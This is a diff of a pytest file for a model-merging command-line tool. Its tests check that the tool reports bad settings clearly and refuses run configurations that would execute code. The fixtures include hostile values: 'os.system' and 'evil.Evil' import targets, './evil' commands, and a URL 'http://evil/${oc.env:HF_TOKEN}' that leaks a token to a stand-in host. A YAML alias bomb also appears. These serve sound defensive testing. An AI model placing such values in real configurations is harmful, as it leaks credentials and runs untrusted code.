@@ -1,57 +1,82 @@
-"""Bad input: one or two clear lines, exit code 2, no traceback, and the refused run leaves nothing."""
+"""Bad input in one or two clear lines; parts of the user are named with their file; run directories are data."""
 
 from __future__ import annotations
 
 import csv
+import gzip
 import json
+import re
 import shutil
+import sys
+from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
+from omegaconf import OmegaConf
 
-from souping.cli import config
-from souping.cli.job import format_error
+from souping.cli.finished import code_in, read_config, refuse_code
 from souping.core.types import UserError
+from souping.report.files import read_report, read_trials
+from souping.report.render import read_samples
 from tests.conftest import Cli, pool_of
+from tests.support.composition import compose
 from tests.support.family import save_model
+
+FILES = {
+    "taken/file": "",
+    "table.csv": "model,a,b,c\nm1,1,.5,.2\nm2,.5,.6,.7\nm3,.2,.3,.9\n",
+    "pointer": "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12\n",
+    "flat.csv": "model,red,green\nant,1,2\nbee,2,2\ncat,3,2\ndog,4,2\n",
+    "short.csv": "model,red,green\nant,1,2\nbee,2\ncat,3,2\ndog,4,2\n",
+}
 
 
 @pytest.mark.parametrize(
-    ("arguments", "needles"),
+    ("words", "needles"),
     [
-        (["selector=socee"], ["selector", "did you mean soce"]),
-        (["selector.thresold=0.3"], ["selector.thresold", "did you mean threshold"]),
-        (["+experiment=bfc"], ["+experiment=bfc: there is no such choice", "did you mean bfcl"]),
-        (["experiment=bfcl"], ["+experiment=bfcl"]),
-        (["nonsense=1"], ["nonsense", "known keys"]),
-        (["selector.threshold=high"], ["selector.threshold='high'", "a number"]),
-        (["optimiser.trials=0"], ["optimiser.trials=0", "at least 1"]),
-        (["out=taken"], ["out=taken", "not an empty folder"]),
-        (["benchmark.path=none.jsonl"], ["benchmark.path=none.jsonl"]),
-        (["optimiser.budget=1"], ["optimiser.budget=1", "search fold"]),
-        (["optimiser=fixed", "optimiser.weights=[0.5,0.4]"], ["optimiser.weights", "0.9"]),
-        (["merge.carry=ent"], ["merge.carry=ent", "did you mean ant"]),
-        (["selector=topk", "selector.k=9"], ["selector.k=9", "4 candidates"]),
-        (["store.path="], ["store.path", "empty"]),
-        (["seed=x"], ["seed=x", "Integer"]),
-        (["selector=3"], ["Config group"]),
-        (["a(b=c"], ["cannot read the override", "quotes"]),
-        (["store.path=/proc/nothing/s"], ["/proc/nothing"]),
-        (["evaluator.max_new_tokens=12"], ["in which the models differ"]),
+        ("selector=socee", ["selector", "did you mean soce"]),
+        ("selector.thresold=0.3", ["selector.thresold", "did you mean threshold"]),
+        ("+experiment=bfc", ["+experiment=bfc: there is no such choice", "did you mean bfcl"]),
+        ("experiment=bfcl", ["+experiment=bfcl"]),
+        ("nonsense=1", ["nonsense", "known keys"]),
+        ("selector.threshold=high", ["selector.threshold='high'", "a number"]),
+        ("optimiser.trials=0", ["optimiser.trials=0", "at least 1"]),
+        ("out=taken", ["out=taken", "not an empty folder"]),
+        ("benchmark.path=none.jsonl", ["benchmark.path=none.jsonl"]),
+        ("benchmark.path=table.csv", ["table.csv:1", "JSON"]),
+        ("benchmark.path=pointer", ["pointer:1", "git lfs pull"]),
+        ("optimiser.budget=1", ["optimiser.budget=1", "search fold"]),
+        ("merge.carry=ent", ["merge.carry=ent", "did you mean ant"]),
+        ("seed=x", ["seed=x", "Integer"]),
+        ("selector=3", ["Config group"]),
+        ("a(b=c", ["cannot read the override", "quotes"]),
+        ("+temperature=0.5", ["evaluator.temperature"]),
+        ("store.path=/proc/nothing/s", ["/proc/nothing"]),
+        ("out=~nosuchuser/x", ["out="]),
+        ("evaluator.max_new_tokens=12", ["in which the models differ"]),
+        ("scores=table scores.path=flat.csv", ["in which the models differ"]),
+        ("scores=table scores.path=short.csv", ["short.csv:3"]),
+        ("scores=table scores.path=table.csv pool.candidates=[m1,m2,m3]", ["candidate m1"]),
+        ("selector=all pool.candidates=[~/m1,~/m2]", ["candidate m1", "home/m1"]),
+        ("pool.candidates=[ANT]", ["at least two"]),
+        ("selector=all pool.candidates=[ANT,loop]", ["candidate loop", "is not a folder"]),
+        ("pool.candidates=[ANT,ANT]", ["same folder"]),
+        ("pool.candidates=[ANT,x/ant]", ["share the name"]),
+        ("pool.candidates=[{nme: a}]", ["pool.candidates"]),
     ],
-    ids=lambda value: " ".join(value) if value and isinstance(value, list) else "",
 )
-def test_bad_settings(family: Path, souping: Cli, tmp_path: Path, arguments: list[str], needles: list[str]) -> None:
-    (tmp_path / "taken").mkdir()
-    (tmp_path / "taken" / "file").touch()
-    souping(*pool_of(family), *arguments).refused(*needles)
-    assert not (tmp_path / "outputs" / "fam").exists()
-
-
-def test_an_error_after_work_stands_alone_on_standard_error(family: Path, souping: Cli, tmp_path: Path) -> None:
-    done = souping(*pool_of(family), "selector.threshold=0.001", "selector.otherwise=error")
-    done.refused("no low-correlation category", "smallest |rho|")
-    assert "select: every candidate" in done.out
+def test_bad_settings(
+    family: Path, souping: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, words: str, needles: list[str]
+) -> None:
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    shutil.copytree(family / "bee", tmp_path / "x" / "ant")
+    (tmp_path / "loop").symlink_to(tmp_path / "loop")
+    for name, content in FILES.items():
+        (tmp_path / name).parent.mkdir(exist_ok=True)
+        (tmp_path / name).write_text(content)
+    given = re.split(r" (?=\w+[.=])", words.replace("ANT", str(family / "ant")))
+    souping(*pool_of(family), *given).refused(*needles)
     assert not (tmp_path / "outputs" / "fam").exists()
 
 
@@ -66,64 +91,32 @@ def test_a_candidate_that_is_broken(family: Path, souping: Cli, tmp_path: Path) 
     souping(*words).refused("model.safetensors")
     save_model(broken, 1, hidden_size=32)
     souping(*words).refused("shape")
-    shutil.rmtree(broken)
-    souping(*words).refused("broken")
-
-
-def test_one_candidate_and_twins(family: Path, souping: Cli, tmp_path: Path) -> None:
-    rest, ant = pool_of(family)[1:], family / "ant"
-    same = shutil.copytree(family / "bee", tmp_path / "x" / "ant")
-    pools = {str(ant): "at least two", "": "at least two", f"{ant},{ant}": "same folder"}
-    pools |= {f"{ant},{same}": "share the name", "{nme: a}": "pool.candidates"}
-    for candidates, needle in pools.items():
-        souping(f"pool.candidates=[{candidates}]", *rest).refused(needle)
-
-
-def test_a_table_that_cannot_be_selected_by(family: Path, souping: Cli, tmp_path: Path) -> None:
-    board = tmp_path / "board.csv"
-    table = ["scores=table", "scores.path=board.csv", "stop_after=select"]
-    board.write_text("model,red,green\nant,1,2\nbee,2,2\ncat,3,2\ndog,4,2\n")
-    souping(*pool_of(family), *table).refused("in which the models differ")
-    board.write_text("model,red,green\nant,1,2\nbee,2\ncat,3,2\ndog,4,2\n")
-    souping(*pool_of(family), *table).refused("board.csv:3")
-    board.write_text("model,red,green\nant,1,2\nbee,2,4\ncat,3,6.1\ndog,4,8\n")
-    assert "selected as by selector=greedy" in souping(*pool_of(family), *table).out
 
 
 @pytest.mark.parametrize(
-    ("file", "key", "value", "needle"),
+    ("file", "content", "needle"),
     [
-        ("tokenizer.json", "pre_tokenizer", {"type": "Nope"}, "cannot load the tokenizer"),
-        ("tokenizer_config.json", "pad_token", 5, "cannot load"),
-        ("config.json", "rms_norm_eps", "x", "cannot load this model"),
+        ("tokenizer_config.json", {"pad_token": 5}, "cannot load"),
+        ("config.json", {"rms_norm_eps": "x"}, "cannot load this model"),
+        ("chat_template.jinja", "{{ 1/0 }}", "the chat template refuses its messages"),
     ],
 )
 def test_files_that_libraries_refuse(
-    family: Path, souping: Cli, tmp_path: Path, file: str, key: str, value: object, needle: str
+    family: Path, souping: Cli, tmp_path: Path, file: str, content: str | dict[str, Any], needle: str
 ) -> None:
-    folders = [Path(shutil.copytree(family / name, tmp_path / name)) for name in ("ant", "bee")]
-    for folder in folders:
-        table = json.loads((folder / file).read_text())
-        old = table.get(key)
-        table[key] = {**old, **value} if isinstance(value, dict) and isinstance(old, dict) else value
-        (folder / file).write_text(json.dumps(table))
-    souping(f"pool.candidates=[{','.join(map(str, folders))}]", *pool_of(family)[1:], "selector=all").refused(needle)
+    for name in ("ant", "bee"):
+        path = Path(shutil.copytree(family / name, tmp_path / name)) / file
+        changed = {**json.loads(path.read_text()), **content} if isinstance(content, dict) else content
+        path.write_text(changed if isinstance(changed, str) else json.dumps(changed))
+    rows = [json.loads(line) for line in (family / "items.jsonl").read_text().splitlines()]
+    chat = [{**row, "prompt": [{"role": "user", "content": row["prompt"]}]} for row in rows]
+    (tmp_path / "items.jsonl").write_text("\n".join(map(json.dumps, chat if "chat" in file else rows)))
+    souping(*pool_of(tmp_path, "ant", "bee"), "selector=all").refused(needle)
     assert not (tmp_path / "outputs" / "fam").exists()
 
 
-def test_a_chat_template_that_fails(family: Path, souping: Cli, tmp_path: Path) -> None:
-    folders = [Path(shutil.copytree(family / name, tmp_path / name)) for name in ("ant", "bee")]
-    for folder in folders:
-        (folder / "chat_template.jinja").write_text("{{ 1/0 }}")
-    rows = [json.loads(line) for line in (family / "items.jsonl").read_text().splitlines()]
-    chat = [{**row, "prompt": [{"role": "user", "content": row["prompt"]}]} for row in rows]
-    (tmp_path / "chat.jsonl").write_text("\n".join(json.dumps(row) for row in chat))
-    arguments = [f"pool.candidates=[{','.join(map(str, folders))}]", *pool_of(family)[2:], "benchmark.path=chat.jsonl"]
-    souping(*arguments, "selector=all").refused("the chat template refuses its messages")
-
-
 @pytest.mark.parametrize(("sizes", "ran"), [("0,2,-1", 1), ("0,9", 0)])
-def test_the_table_of_a_sweep_has_the_refused_jobs_with_their_reason(
+def test_the_table_of_a_sweep_has_refused_jobs(
     family: Path, souping: Cli, tmp_path: Path, sizes: str, ran: int
 ) -> None:
     words = ["selector=topk", f"selector.k={sizes}", "optimiser=uniform", "stop_after=search", "hydra.sweep.dir=sweep"]
@@ -139,46 +132,202 @@ def test_the_table_of_a_sweep_has_the_refused_jobs_with_their_reason(
 
 def test_a_second_run_or_multirun_overwrites_no_first_one(family: Path, souping: Cli, tmp_path: Path) -> None:
     words = [*pool_of(family, "ant", "bee"), "selector=all", "optimiser=uniform", "stop_after=search"]
-    assert souping(*words, "hydra.run.dir=run").code == 0
+    souping(*words, "hydra.run.dir=run").ok()
     before = (tmp_path / "run/config.yaml").read_bytes()
-    done = souping(*words, "seed=1", "hydra.run.dir=run")
-    assert done.code == 0
+    done = souping(*words, "seed=1", "hydra.run.dir=run").ok()
     assert f"{tmp_path}/run holds a run already: this one is in {tmp_path}/run_2\n" in done.err
     assert (tmp_path / "run/config.yaml").read_bytes() == before
     assert (tmp_path / "run_2/trials.csv").is_file()
     for place in ("sweep", "sweep_2"):
-        done = souping("-m", *words, "seed=0,1", "hydra.sweep.dir=sweep")
-        assert done.code == 0, done.err
+        done = souping("-m", *words, "seed=0,1", "hydra.sweep.dir=sweep").ok()
         assert (tmp_path / place / "1/trials.csv").is_file()
         assert len((tmp_path / place / "sweep.csv").read_text().splitlines()) == 3
     assert done.err == "note: sweep holds a multirun already: this one is in sweep_2\n"
 
 
-def test_a_mistyped_folder_that_could_be_a_hub_name_has_a_near_miss(family: Path, souping: Cli, tmp_path: Path) -> None:
-    shutil.copytree(family / "ant", tmp_path / "runs/model-a")
-    words = ["+experiment=merge", f"pool.candidates=[runs/modle-a,{family / 'bee'}]", "optimiser.weights=[0.5,0.5]"]
-    souping(*words).refused("did you mean runs/model-a?")
-    souping(*words[:1], words[1].replace("runs/modle-a", "./runs/modle-a"), *words[2:]).refused("mean runs/model-a?")
+# ------------------------------------------------------------ parts of the user's
 
 
-def test_a_candidate_that_is_a_link_to_itself(family: Path, souping: Cli, tmp_path: Path) -> None:
-    (tmp_path / "loop").symlink_to(tmp_path / "loop")
-    words = ["+experiment=merge", f"pool.candidates=[loop,{family / 'bee'}]", "optimiser.weights=[0.5,0.5]"]
-    souping(*words).refused("candidate loop", "is not a folder")
+PARTS = """
+from dataclasses import dataclass
+import numpy as np
+from souping.core.protocols import Objective, Selector, Strategy, Tracker
+from souping.core.types import Correlations, Selection
+
+@dataclass(frozen=True, kw_only=True)
+class Picks(Selector):
+    names: list[str]
+
+    def select(self, scores):
+        return Selection(ingredients=tuple(self.names), selector=self.label)
+
+@dataclass(frozen=True, kw_only=True)
+class Short(Objective):
+    @property
+    def name(self):
+        return "short"
+
+    def coefficients(self, categories):
+        return np.ones(1)
+
+@dataclass(frozen=True, kw_only=True)
+class Search(Strategy):
+    trials: int | None = None
+    budget: int | None = None
+    start_at: str = ""
+
+    def start(self, *space):
+        return 1 + self.start_at if self.start_at else 7
+
+    def count(self, size):
+        return 3
+
+    def describe(self, size):
+        return "mine"
+
+def factory():
+    return 3
+
+def small(scores):
+    return Correlations(rho=np.zeros((1, 1)), low=np.zeros((1, 1)), high=np.zeros((1, 1)))
+
+@dataclass(frozen=True, kw_only=True)
+class Falls(Tracker):
+    def start(self, config, run_dir):
+        raise ValueError("no room")
+
+    def log(self, trial): ...
+
+    def finish(self, report, run_dir, soup=None):
+        raise KeyError("never asked")
+"""
 
 
-def test_errors_by_their_kind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    assert format_error(UserError("optimiser.step=2 is too much")) == ("optimiser.step=2 is too much", 2)
-    assert format_error(MemoryError("no"))[1] == 2
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.setattr(config, "CHECKED", {"benchmark": {"path": "none.jsonl"}})
-    with pytest.raises(OSError, match=r"none\.jsonl") as caught:
-        (tmp_path / "none.jsonl").read_text()
-    words, code = format_error(caught.value)
-    assert (words.partition("=")[0], code) == ("benchmark.path", 2)
-    with pytest.raises(ZeroDivisionError) as fault:
-        raise ZeroDivisionError("mine")
-    words, code = format_error(fault.value, tmp_path)
-    assert (tmp_path / "traceback.txt").read_text().endswith("ZeroDivisionError: mine\n")
-    assert code == 2  # the line that raised is in this file, which is a user's to souping
-    assert Path(__file__).name in words
+@pytest.fixture
+def mine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.syspath_prepend(str(tmp_path))
+    (tmp_path / "mine_parts.py").write_text(PARTS)
+    sys.modules.pop("mine_parts", None)
+
+
+def swapped(group: str, target: str, *more: str) -> list[str]:
+    return [f"~{group}", f"+{group}._target_=mine_parts.{target}", *more]
+
+
+@pytest.mark.parametrize(
+    ("words", "said"),
+    [
+        (swapped("selector", "Picks", "+selector.names=[nobody,ant]"), "chose 'nobody', which is no candidate: ant"),
+        (swapped("objective", "Short"), "must give 3 coefficients"),
+        (swapped("correlation", "small"), ": rho has shape (1, 1), not (3, 3)"),
+        (swapped("optimiser", "Search"), "started a int, which is no Optimiser: subclass it"),
+        (swapped("optimiser", "Search", "+optimiser.start_at=a"), ": TypeError: unsupported operand"),
+        (swapped("optimiser", "factory"), "makes a int, no Strategy"),
+    ],
+)
+def test_what_a_part_gives_is_looked_at(family: Path, souping: Cli, mine: None, words: list[str], said: str) -> None:
+    done = souping(*pool_of(family), *(["selector=all"] if "~optimiser" in words else []), *words)
+    done.refused(said)
+    assert re.search(r"mine_parts\.\w+ \(\S*mine_parts\.py:\d+\)", done.err), done.err
+
+
+def test_a_tracker_that_falls_ends_no_run(family: Path, souping: Cli, mine: None) -> None:
+    quick = ["selector=all", "optimiser=uniform", "stop_after=search"]
+    done = souping(*pool_of(family), *quick, *swapped("tracker", "Falls")).ok()
+    assert re.search(r"warning: tracker mine_parts.Falls \(.*\): ValueError: no room; the run goes on", done.err)
+    assert "never asked" not in done.err
+
+
+SOCE = "souping.selection.SoCE"
+CODE: dict[str, tuple[dict[str, Any], str]] = {
+    "class": ({"selector": {"_target_": "evil.Evil"}}, "selector._target_"),
+    "way through a module of ours": ({"selector": {"_target_": "souping.core.files.os.system"}}, "selector._target_"),
+    "class in a list": ({"also": [{"evaluator": {"_target_": "evil.Evil"}}]}, "also[0].evaluator._target_"),
+    "scorer": ({"benchmark": {"_target_": SOCE, "scorers": {"mine": "evil.f"}}}, "benchmark.scorers"),
+    "command": ({"merge": {"_target_": SOCE, "command": "./evil"}}, "merge.command"),
+    "interpreter": ({"server": {"_target_": SOCE, "python": "./evil"}}, "server.python"),
+    "trust": ({"evaluator": {"_target_": SOCE, "trust_remote_code": True}}, "evaluator.trust_remote_code"),
+    "task, inline": ({"evaluator": {"_target_": SOCE, "tasks": [{"dataset_path": "evil.py"}]}}, "evaluator.tasks"),
+    "cluster": ({"executor": {"_target_": SOCE, "address": "ray://evil"}}, "executor.address"),
+    "environment": ({"server": {"url": "http://evil/${oc.env:HF_TOKEN}"}}, "server.url"),
+}
+DATA = {
+    "shipped": {"selector": {"_target_": SOCE, "threshold": 0.2}},
+    "switched off": {"evaluator": {"_target_": SOCE, "allow_code": False, "tasks": ["a"], "dir": None}},
+    "a category of that name": {"objective": {"_target_": SOCE, "weights": {"python": 1.0, "command": 2.0}}},
+    "text of a folder": {"name": "\\${x}"},
+}
+
+
+@pytest.mark.parametrize("name", CODE)
+def test_what_would_run_code_is_found_and_refused_with_file_and_key(name: str) -> None:
+    table, key = CODE[name]
+    assert [found for found, _ in code_in(table)] == [key]
+    config = OmegaConf.create(table)
+    with pytest.raises(UserError, match=r"run/config\.yaml: .*\n.*allow_code=true") as caught:
+        refuse_code(config, Path("run/config.yaml"), ["allow_code=false"])
+    assert key in str(caught.value)
+    refuse_code(config, Path("run/config.yaml"), ["allow_code=true"])
+    refuse_code(config, Path("run/config.yaml"), [f"{key}=mine"])
+
+
+@pytest.mark.parametrize("name", DATA)
+def test_data_is_none(name: str) -> None:
+    assert list(code_in(DATA[name])) == []
+
+
+@pytest.mark.parametrize("words", [["+experiment=bfcl"], ["+experiment=bfcl", "selector=topk", "merge=mergekit"]])
+def test_no_shipped_choice_is_refused(words: list[str]) -> None:
+    assert list(code_in(compose(words))) == []
+
+
+def test_a_run_directory_of_somebody_else_imports_nothing(
+    souping: Cli, tmp_path: Path, family: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.syspath_prepend(tmp_path)
+    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'RAN')!r}, 'w').close()\n")
+    config = OmegaConf.create(compose(pool_of(family)))
+    for key, value in (("selector._target_", "evil.Evil"), ("allow_code", True)):
+        OmegaConf.update(config, key, value)
+    (tmp_path / "got").mkdir()
+    OmegaConf.save(config, tmp_path / "got" / "config.yaml")
+    souping("run=got").refused("got/config.yaml", "selector._target_=evil.Evil", "allow_code=true")
+    assert not (tmp_path / "RAN").exists()
+    assert souping("run=got", "allow_code=true").code == 2  # and is no part
+    assert (tmp_path / "RAN").exists()
+
+
+BOMB = "a: &a [x, x]\n" + "".join(f"{b}: &{b} [*{a}, *{a}]\n" for a, b in zip("abcdefghijk", "bcdefghijkl"))  # noqa: B905
+
+
+@pytest.mark.parametrize(
+    "content",
+    [BOMB.encode(), b"name: \xe9\xff\n", b"[" * 100_000, b"- a\n", b"a: [\n", b"a: \x00\n", b"x" * 2_000_000],
+    ids=["aliases", "latin-1", "nested", "a list", "cut", "NUL", "large"],
+)
+def test_a_damaged_configuration_is_told_with_its_file(content: bytes, tmp_path: Path) -> None:
+    (tmp_path / "config.yaml").write_bytes(content)
+    with pytest.raises(UserError, match=r"config\.yaml") as caught:
+        read_config(tmp_path / "config.yaml")
+    assert len(str(caught.value).splitlines()) == 1
+
+
+TRIALS = "number,recipe_id,objective,weight:a,score:c,items\n1,f,0.5,1.0,0.5,3\n"
+DEEP = "[" * 100_000
+DAMAGED: dict[str, tuple[Callable[[Path], Any], list[str]]] = {
+    "trials.csv": (read_trials, [TRIALS.replace(",", ";"), TRIALS.replace("0.5,3", "0.5,3,1"), TRIALS + '"x', ""]),
+    "report.json": (read_report, [DEEP, "[]", '{"a": ', ""]),
+    "samples.jsonl.gz": (lambda path: list(read_samples(path)), [DEEP, "x"]),
+}
+
+
+@pytest.mark.parametrize("name", DAMAGED)
+def test_a_damaged_file_of_a_run_is_told_with_its_name(name: str, tmp_path: Path) -> None:
+    path, (read, contents) = tmp_path / name, DAMAGED[name]
+    for content in contents:
+        data = content.encode()
+        path.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
+        with pytest.raises(UserError, match=re.escape(name)):
+            read(path)
+    (tmp_path / "trials.csv").write_text(TRIALS)
+    assert read_trials(tmp_path / "trials.csv")[0]["weights"] == {"a": 1.0}
